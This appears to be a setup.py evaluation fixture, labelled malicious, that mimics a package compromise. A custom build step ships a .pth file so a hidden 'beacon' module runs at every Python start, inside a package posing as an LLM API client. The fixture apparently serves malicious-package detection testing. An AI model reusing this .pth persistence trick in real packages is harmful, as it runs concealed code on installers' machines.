# Evaluation fixture (malicious): a .pth shipped inside the package, as in
# a 2026 compromise of a popular package.  Nothing runs at install time;
# build_py puts a .pth at the top of the wheel (the way setuptools ships
# its own distutils-precedence.pth), and its "import" line runs the
# package's beacon module at every start of the interpreter.  The beacon
# acts only inside the evaluation (SP_MARK, SP_SINK_PORT).
import os
import shutil

from setuptools import setup
from setuptools.command.build_py import build_py


class BuildPy(build_py):
    def run(self):
        super().run()
        shutil.copy("llm_client_init.pth", os.path.join(self.build_lib, "llm_client_init.pth"))


setup(
    name="pth-in-wheel",
    version="1.82.7",
    description="LLM API client",
    py_modules=["llm_client", "llm_client_telemetry"],
    cmdclass={"build_py": BuildPy},
)
